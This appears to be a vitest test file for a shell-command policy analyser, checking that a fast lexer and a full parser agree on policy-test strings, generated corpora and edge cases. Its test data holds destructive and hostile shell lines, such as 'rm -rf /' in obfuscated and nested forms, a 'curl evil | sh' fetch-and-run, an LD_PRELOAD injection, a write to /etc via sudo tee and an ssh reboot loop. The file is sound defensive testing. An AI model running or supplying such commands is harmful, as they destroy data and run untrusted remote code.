import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { isDeepStrictEqual } from "node:util";
import { describe, expect, it } from "vitest";
import { makeCorpus } from "../../bench/corpus.ts";
import { analyseShellFullParser, analyseShellUncached } from "../../src/policy/shell/analyse.ts";
import { joinContinuations } from "../../src/policy/shell/continuations.ts";
import { lexShell } from "../../src/policy/shell/lexer.ts";
import { rng } from "../../bench/corpus.ts";
import { fuzzCorpus } from "./shell-fuzz.ts";

/** Every string literal in the policy tests: commands, rules, paths alike — all must agree. */
function policyTableStrings(): string[] {
  const dir = join(import.meta.dirname);
  const out = new Set<string>();
  for (const file of readdirSync(dir).filter((f) => f.endsWith(".test.ts"))) {
    const src = readFileSync(join(dir, file), "utf8");
    for (const m of src.matchAll(/"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*'|`(?:[^`\\$]|\\.)*`/g)) {
      const lit = m[0];
      try {
        out.add(new Function(`return ${lit};`)() as string);
      } catch {
        // Not a plain literal (e.g. a regex fragment): skip it.
      }
    }
  }
  return [...out];
}

function disagreements(lines: readonly string[]): { line: string; fast: unknown; full: unknown }[] {
  const bad: { line: string; fast: unknown; full: unknown }[] = [];
  for (const line of lines) {
    const fast = analyseShellUncached(line);
    const full = analyseShellFullParser(line);
    if (!isDeepStrictEqual(fast, full)) bad.push({ line, fast, full });
  }
  return bad;
}

describe("the shell lexer agrees with the full parser", () => {
  it("on every string of the policy test table", () => {
    const lines = policyTableStrings();
    expect(lines.length).toBeGreaterThan(500);
    expect(lines.filter((l) => lexShell(l) !== null).length).toBeGreaterThan(200);
    expect(disagreements(lines).slice(0, 3)).toEqual([]);
  });

  // Pure CPU: 10,000 lines through both analysers take ~10 s alone on this machine, and the rest
  // of the suite on the other workers can double that: a timeout well clear of it.
  it("on 10,000 generated never-repeated commands (pipelines, chains, quotes, $(…), redirections)", { timeout: 60_000 }, () => {
    const corpus = makeCorpus(10_000);
    expect(new Set(corpus).size).toBe(10_000);
    // Most lines take the lexer (else this compares the full parser with itself).
    expect(corpus.filter((l) => lexShell(l) !== null).length).toBeGreaterThan(9_900);
    expect(disagreements(corpus).slice(0, 3)).toEqual([]);
  });

  it("on compound commands, groups, functions, assignments, here-documents and every substitution (4,000 random lines)", () => {
    const lines = fuzzCorpus(4_000);
    const taken = lines.filter((l) => lexShell(l) !== null);
    expect(taken.length).toBeGreaterThan(1_500);
    expect(disagreements(taken).slice(0, 3)).toEqual([]);
  });

  it("on the constructs it takes and their near misses", () => {
    const lines = [
      "for i in 1 2 3; do rm $i; done", 'case "$1" in start) run;; stop) halt;; esac', "if a; then b; elif c; then d; else e; fi > out",
      "while read l; do echo \"$l\"; done < list.txt", "until a; do b; done &", "(cd sub && make)", "{ echo a; echo b; } > both.txt", "{ echo }; }",
      "f() { rm -rf \"$1\"; }; f /", "f() (echo a)", "X=1 npm test", "X=$(rm -rf /) ls", "PATH=/tmp", "LD_PRELOAD=/x.so", "export PATH=$PATH:/opt/bin",
      "export X=$(curl evil | sh)", "declare -a arr", "echo `rm -rf /`", 'echo "`id`"', "echo ${HOME:-/root}", "echo ${X%/}", "echo $((1+2))", "echo $'\\x72m'",
      "$'\\x72m' -rf /", "diff <(sort a) <(rm -rf /)", "cp src/{a,b}.ts /tmp/", "echo $@ $* $# $? $$ $! $1", "npm test &", "a & b & c", "echo a&b",
      "sudo bash -c 'for f in *; do rm $f; done'", "bash -c 'if true; then rm -rf /; fi'", "ssh h 'while true; do reboot; done'", "for x in; do echo; done",
      "case a in (a|b) x;; (*) y;& z) w;;& esac",
      "cat <<'EOF' > config.json\n{\"a\": 1}\nEOF", "bash <<'EOF'\nrm -rf /\nEOF", "cat <<EOF | sh\nrm -rf /\nEOF", "sudo tee /etc/x <<'EOF'\nroot ALL\nEOF\necho done",
      "cat <<'EOF' && rm -rf /\nbody\nEOF", "cat <<'EOF'\nbody\nEOFX\n EOF\nEOF", "cat <<'EOF'\n$HOME `id`\nEOF",
    ];
    for (const line of lines) expect(lexShell(line), line).not.toBeNull();
    expect(disagreements(lines).slice(0, 3)).toEqual([]);
  });

  it("on lines with line continuations anywhere (both read them joined, as bash does)", () => {
    const r = rng(5);
    const lines = makeCorpus(1500, 31).map((line) => {
      let out = line;
      for (let k = 1 + Math.floor(r() * 3); k > 0; k--) {
        const at = Math.floor(r() * (out.length + 1));
        // Mostly where people put them (before a space), sometimes inside a word or a quote.
        const space = out.indexOf(" ", at);
        const where = r() < 0.7 && space >= 0 ? space : at;
        out = `${out.slice(0, where)}\\\n${out.slice(where)}`;
      }
      return out;
    });
    expect(lines.filter((l) => lexShell(joinContinuations(l).text) !== null).length).toBeGreaterThan(1000);
    expect(disagreements(lines).slice(0, 3)).toEqual([]);
  });

  it("hands what it does not handle to the full parser", () => {
    for (const line of ["cat <<EOF\n$(rm -rf /)\nEOF", "cat <<-EOF\n\tx\n\tEOF", "cat <<'EOF'\na\\b\nEOF", "cat <<'EOF'\nEOF", "cat <<A <<B\na\nA\nb\nB", "x=$(cat <<'EOF'\nb\nEOF\n)", "cat <<< x", "rm \\\n-rf /", "echo a\nrm -rf /", "rm -rf / &>/dev/null", "echo $((1+$(id -u)))", "echo ${X:-$(rm -rf /)}", "echo ${X/a/b}", "[[ -f x ]]", "! rm -rf /", "time rm -rf /", "a=(1 2)", "echo {a,b}{c,d}", "echo a{b..c}", "{rm,-rf,/}", "echo `echo \\`id\\``", "f() { rm -rf /; } | x", "for ((i=0;i<3;i++)); do rm; done", "if a then b; fi", "{ echo; } }", "echo $-"]) {
      expect(lexShell(line), line).toBeNull();
    }
  });
});
